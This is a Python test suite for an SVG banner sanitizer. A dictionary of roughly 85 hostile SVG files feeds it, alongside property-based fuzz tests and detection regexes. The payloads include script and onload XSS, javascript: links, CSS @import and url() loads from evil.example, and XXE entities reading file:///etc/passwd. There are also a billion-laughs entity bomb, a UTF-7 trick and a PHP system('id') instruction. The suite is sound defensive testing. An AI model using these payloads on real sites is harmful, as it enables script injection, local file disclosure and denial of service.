"""Drawings are drawn anew from what is known to be only a drawing."""

import re
import time
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opencabinet import content
from opencabinet.content import LARGEST, SIZES, BadBanner
from tests.content.pictures import drawn

XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
SVG = "{http://www.w3.org/2000/svg}"
TAGS_OF_OTHERS = re.compile(
    rb"<(?:!|\?|script|a[ />]|use|image|iframe|animate|set[ />]|foreignobject|handler|filter|metadata|x:)",
    re.IGNORECASE,
)
FORBIDDEN = re.compile(
    r"script|expression|@|\bon[a-z]+=|\\|//|url\((?!#)|data:|evil|alert|behavior|binding",
    re.IGNORECASE,
)
"""What is said by no attribute and no style of what is shown."""
JS = "javascript:alert(1)"
RECT = '<rect width="9" height="9" {}/>'
HOSTILE = {
    "a script": drawn("<script>alert(1)</script>"),
    "a script from elsewhere": drawn('<script href="https://evil.example/x.js"/>'),
    "a script in another case": drawn("<SCRIPT>alert(1)</SCRIPT>"),
    "a script of another name space": drawn('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    "a script within a group": drawn("<g><g><script>alert(1)</script></g></g>"),
    "a script within a title": drawn("<title><script>alert(1)</script></title>"),
    "a script in character data": drawn("<text><![CDATA[<script>alert(1)</script>]]></text>"),
    "a script in a style's data": drawn("<style><![CDATA[</style><script>alert(1)</script>]]></style>"),
    "onload of all": drawn("", 'width="468" height="60" onload="alert(1)"'),
    "onload in another case": drawn(RECT.format('ONLOAD="alert(1)"')),
    "onclick": drawn(RECT.format('onclick="alert(1)"')),
    "onbegin": drawn('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    "onfocusin": drawn(RECT.format('tabindex="1" onfocusin="alert(1)"')),
    "a handler of events": drawn(
        '<handler type="text/javascript" xmlns:e="http://www.w3.org/2001/xml-events" e:event="load">alert(1)</handler>'
    ),
    "a link to a script": drawn(f'<a href="{JS}"><text>x</text></a>'),
    "an old link to a script": drawn(f'<a xlink:href="{JS}"><text>x</text></a>', f'width="468" height="60" {XLINK}'),
    "a link with a tab in it": drawn('<a href="java&#9;script:alert(1)"><text>x</text></a>'),
    "a link to elsewhere": drawn('<a href="https://evil.example/"><text>x</text></a>'),
    "a link to nobody's": drawn('<a href="//evil.example/"><text>x</text></a>'),
    "use from elsewhere": drawn('<use href="https://evil.example/x.svg#y"/>'),
    "use of data": drawn('<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>'),
    "use of itself": drawn('<g id="a"><use href="#a"/></g>'),
    "an image from elsewhere": drawn('<image href="https://evil.example/x.png" width="9" height="9"/>'),
    "an image of data": drawn('<image href="data:image/svg+xml,%3Csvg onload=alert(1)%3E" width="9" height="9"/>'),
    "an image of a file": drawn('<image href="file:///etc/passwd" width="9" height="9"/>'),
    "a filter's image": drawn('<filter id="f"><feImage href="https://evil.example/x"/></filter>'),
    "a page within": drawn(
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/></body></foreignObject>'
    ),
    "a frame": drawn('<iframe src="javascript:alert(1)"/>'),
    "an object": drawn('<object data="https://evil.example"/><embed src="https://evil.example"/>'),
    "a sound": drawn('<audio src="https://evil.example" onerror="alert(1)"/>'),
    "a style that imports": drawn('<style>@import url("https://evil.example/x.css");</style>'),
    "a style that imports in other letters": drawn("<style>@\\69mport 'https://evil.example/x.css';</style>"),
    "a style with a font": drawn("<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>"),
    "a style with a picture": drawn("<style>rect{fill:url(https://evil.example/x#y)}</style>"),
    "a style that reads attributes": drawn('<style>rect[fill^="a"]{fill:url(//evil.example/a)}</style>'),
    "an expression": drawn("<style>rect{width:expression(alert(1))}</style>"),
    "a binding": drawn('<style>rect{-moz-binding:url("https://evil.example/x#y")}</style>'),
    "a style of an element": drawn(RECT.format('style="fill:url(https://evil.example/x)"')),
    "a style behind a good one": drawn(RECT.format('style="fill:#fff;background:url(//evil.example)"')),
    "a comment within a style": drawn(RECT.format('style="fill:u/**/rl(https://evil.example)"')),
    "a fill from elsewhere": drawn(RECT.format('fill="url(https://evil.example/x#y)"')),
    "a fill with more behind": drawn(RECT.format('fill="url(#a) url(https://evil.example)"')),
    "a mask from elsewhere": drawn(RECT.format('mask="url(https://evil.example/x#y)"')),
    "a cursor": drawn(RECT.format('cursor="url(https://evil.example/x), auto"')),
    "a marker from elsewhere": drawn(RECT.format('marker-end="url(https://evil.example/x#y)"')),
    "a gradient from elsewhere": drawn('<linearGradient id="g" href="https://evil.example/x.svg#g"/>'),
    "a gradient of a script": drawn(f'<linearGradient id="g" href="{JS}"/>'),
    "a link set later": drawn(f'<a><set attributeName="href" to="{JS}"/><text>x</text></a>'),
    "a link moved": drawn(f'<a><animate attributeName="xlink:href" values="{JS}"/><text>x</text></a>'),
    "a base": drawn(RECT.format('xml:base="https://evil.example/"')),
    "an id that breaks out": drawn(
        RECT.format("""id='"><script>alert(1)</script>'""").replace("<script>", "&lt;script&gt;")
    ),
    "a class that breaks out": drawn(RECT.format('class="a&quot; onload=&quot;alert(1)"')),
    "a font that breaks out": drawn('<text font-family="x&quot; onload=&quot;alert(1)">x</text>'),
    "a style sheet before": b'<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>' + drawn(),
    "an instruction within": drawn("<?php system('id') ?>"),
    "a comment that ends early": drawn("<!--><script>alert(1)</script>-->"),
    "another name space": drawn('<x:rect xmlns:x="https://evil.example/ns" onload="alert(1)"/>'),
    "metadata": drawn("<metadata><rdf xmlns='evil'>alert</rdf></metadata>"),
    "clips that cut themselves": drawn(
        "".join(
            f'<clipPath id="c{n}"><rect width="9" height="9" clip-path="url(#c{n + 1})"/></clipPath>' for n in range(9)
        )
    ),
    "a document type": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/x.dtd">' + drawn(),
    "an entity of a file": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + drawn("<text>&x;</text>"),
    "an entity from elsewhere": b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x">%x;]>' + drawn(),
    "a billion laughs": b'<!DOCTYPE svg [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
    + drawn("<text>&j;</text>"),
    "an entity that is not told": drawn("<text>&nbsp;</text>"),
    "a page that holds a drawing": b'<html xmlns="http://www.w3.org/1999/xhtml">' + drawn() + b"</html>",
    "a drawing of no name space": b'<svg width="468" height="60"><rect/></svg>',
    "a drawing of a page's name space": b'<svg xmlns="http://www.w3.org/1999/xhtml" width="468" height="60"/>',
    "two drawings": drawn() + drawn(),
    "a script behind": drawn() + b"<script>alert(1)</script>",
    "cut off": drawn()[:-9],
    "another encoding": drawn("<text>x</text>").decode().encode("utf-16"),
    "an encoding that is told": b'<?xml version="1.0" encoding="UTF-7"?>'
    + drawn("<text>+ADw-script+AD4-alert(1)</text>"),
    "bytes that are no letters": drawn("<text>x</text>").replace(b"x<", b"\xff\xfe<"),
    "nothing": b"<",
    "no size": drawn("", ""),
    "another size": drawn("", 'width="100" height="100"'),
    "a size of percents": drawn("", 'width="100%" height="100%"'),
    "a size that is not whole": drawn("", 'width="468.5" height="60"'),
    "too large": drawn(f'<path d="{"M0 0 " * (LARGEST // 5)}"/>'),
    "too deep": drawn("<g>" * 500 + "</g>" * 500),
    "too many": drawn("<g/>" * 6000),
    "too many attributes": drawn(RECT.format(" ".join(f'a{n}="1"' for n in range(100)))),
    "a long value": drawn(RECT.format(f'fill="{"a" * 9000}"')),
    "a long style of blanks": drawn(f"<style>a{' ' * 60_000}!{{fill:red}}</style>"),
    "a long style without an end": drawn(f"<style>{'a' * 60_000}</style>"),
    "many styles": drawn(f"<style>{'a{fill:red}' * 5000}</style>"),
}


SILENT = {"a script in character data", "an encoding that is told", "a comment that ends early"}
"""Files that are harmless as they are."""


def judged_safe(made: bytes) -> None:
    """Judge a drawing by other means than it was made by; its texts are only read, so they may say anything."""
    assert not TAGS_OF_OTHERS.search(made), made
    for element in ET.fromstring(made).iter():  # noqa: S314 - it was drawn anew
        assert element.tag.startswith(SVG)
        said = [f' {name}="{value}"' for name, value in element.attrib.items()]
        said += [element.text or ""] if element.tag == f"{SVG}style" else []
        for each in said:
            assert not FORBIDDEN.search(each), each
        names = {each.rpartition("}")[2] for each in element.attrib}
        assert not {"href", "src"} & names or element.attrib["href"][0] == "#"
        assert not any(each.startswith("on") or "}" in each for each in element.attrib)


@pytest.mark.parametrize("name", HOSTILE)
def test_what_is_hostile_is_refused_or_harmless(name: str) -> None:
    began = time.monotonic()
    try:
        picture, left_out = content.judged(HOSTILE[name])
    except BadBanner:
        assert time.monotonic() - began < 2
        return
    assert time.monotonic() - began < 2
    judged_safe(picture.content)
    assert left_out or name in SILENT, "what is left out is told"


def test_there_are_many_of_them() -> None:
    assert len(HOSTILE) >= 80


@pytest.mark.parametrize("size", SIZES)
def test_every_size_is_taken_however_it_is_said(size: tuple[int, int]) -> None:
    width, height = size
    for attributes in (
        f'width="{width}" height="{height}"',
        f'width="{width}px" height="{height}.0px"',
        f'viewBox="0 0 {width} {height}"',
        f'width="{width}" height="{height}" viewBox="0 0 {2 * width} {2 * height}"',
    ):
        picture, left_out = content.judged(drawn("<circle r='9'/>", attributes))

        assert (picture.kind, picture.width, picture.height, left_out) == ("svg", width, height, ())
        root = ET.fromstring(picture.content)  # noqa: S314 - it was drawn anew
        assert (root.attrib["width"], root.attrib["height"]) == (str(width), str(height))
        assert root.attrib["viewBox"].startswith("0 0 ")


GOOD = """
<title>Trade &amp; learn</title>
<defs>
  <linearGradient id="g" x1="0%" y1="0" x2="100%" y2="0" gradientUnits="userSpaceOnUse">
    <stop offset="0" stop-color="#c03"/>
    <stop offset=".5" stop-color="rgba(0, 12, 255, .5)" stop-opacity="0.5"/></linearGradient>
  <linearGradient id="h" href="#g" gradientTransform="rotate(45 20 10)"/>
  <clipPath id="c"><rect width="100" height="60" rx="4"/></clipPath>
</defs>
<style>.cls-1{fill:#f00;stroke-width:1.5px}.cls-2, text.big { font-family: "Open Sans", Arial; font-size:12px }</style>
<g transform="translate(10,20) scale(1.5)" clip-path="url(#c)" opacity=".9">
  <path class="cls-1" d="M10 10L20,20c1e-3 2-3.5z" fill="url(#h)" fill-rule="evenodd"/>
  <polygon points="1,2 3,4 5,6" style="fill:none;stroke:hsl(120, 50%, 50%)"/>
  <text x="5" y="20" class="big cls-2"
    text-anchor="middle">Jetzt <tspan font-weight="bold">handeln</tspan> – 交易 &lt;1&gt;</text>
</g>
"""


def test_a_drawing_of_a_designer_is_whole_afterwards() -> None:
    picture, left_out = content.judged(drawn(GOOD))

    assert left_out == ()
    text = picture.content.decode()
    judged_safe(picture.content)
    for kept in (
        *('fill="url(#h)"', 'href="#g"', 'clip-path="url(#c)"', 'd="M10 10L20,20c1e-3 2-3.5z"', "rotate(45 20 10)"),
        *(".cls-1{fill:#f00;stroke-width:1.5px}", '.cls-2, text.big{font-family:"Open Sans", Arial;font-size:12px}'),
        *(
            "rgba(0, 12, 255, .5)",
            "hsl(120, 50%, 50%)",
            "– 交易 &lt;1&gt;",
            "Trade &amp; learn",
            "<tspan",
            "</tspan> –",
        ),
    ):
        assert kept in text, kept


def test_what_is_drawn_anew_is_drawn_the_same_once_more() -> None:
    for file in (drawn(GOOD), *HOSTILE.values()):
        try:
            once, _ = content.judged(file)
        except BadBanner:
            continue
        again, left_out = content.judged(once.content)
        assert (again.content, left_out) == (once.content, ())


def test_what_is_left_out_is_told() -> None:
    file = drawn("<script>1</script><a href='x'><text onclick='1'>x</text></a><style>@import 'x'</style>")

    picture, left_out = content.judged(file)

    assert left_out == ("<a>", "<script>", "onclick", "styles")
    assert b"<text>x</text>" in picture.content


TAGS = st.sampled_from(
    [
        *(
            "g",
            "svg",
            "rect",
            "path",
            "text",
            "tspan",
            "style",
            "defs",
            "clipPath",
            "mask",
            "linearGradient",
            "stop",
            "a",
        ),
        *("script", "use", "image", "foreignObject", "animate", "set", "x:rect", "title", "desc", "handler", "iframe"),
    ]
)
NAMES = st.sampled_from(
    [
        *("id", "class", "style", "href", "xlink:href", "fill", "stroke", "clip-path", "mask", "d", "x", "transform"),
        *("onload", "onclick", "xml:base", "src", "filter", "cursor", "font-family", "viewBox", "width", "x:y", "to"),
    ]
)
VALUES = st.one_of(
    st.sampled_from(
        [
            *("1", "#a", "url(#a)", "url(//evil)", JS, "data:text/html,1", "fill:url(//evil)", "expression(alert(1))"),
            *("fill:red;@import 'evil'", "\\75rl(//evil)", "a&quot; onload=&quot;alert(1)", "rgb(1,2,3)", "M0 0z"),
        ]
    ),
    st.text("a#(:;)\\/@{}'-.,% \t0", max_size=12),
)
TEXTS = st.sampled_from(["x", "a{fill:red}", "@import 'evil'", "&lt;script&gt;", "]]&gt;", "b{fill:url(//evil)}", " "])


@st.composite
def elements(draw: st.DrawFn, deep: int = 3) -> str:
    """Make elements of elements."""
    tag, text = draw(TAGS), draw(TEXTS)
    given = draw(st.dictionaries(NAMES, VALUES, max_size=4))
    inside = "".join(draw(st.lists(elements(deep - 1), max_size=3))) if deep else ""
    attributes = "".join(f' {name}="{value}"' for name, value in given.items())
    return f"<{tag}{attributes}>{text}{inside}</{tag}>"


@given(elements(), st.booleans())
@settings(max_examples=100, deadline=None)
def test_whatever_is_drawn_is_refused_or_harmless(inside: str, within: bool) -> None:  # noqa: FBT001 - drawn
    names = f'xmlns:x="https://evil.example/ns" {XLINK} width="468" height="60"'
    file = drawn(f"<g>{inside}</g>" if within else inside, names)
    try:
        picture, _ = content.judged(file)
    except BadBanner:
        return
    judged_safe(picture.content)
    assert content.judged(picture.content)[0] == picture
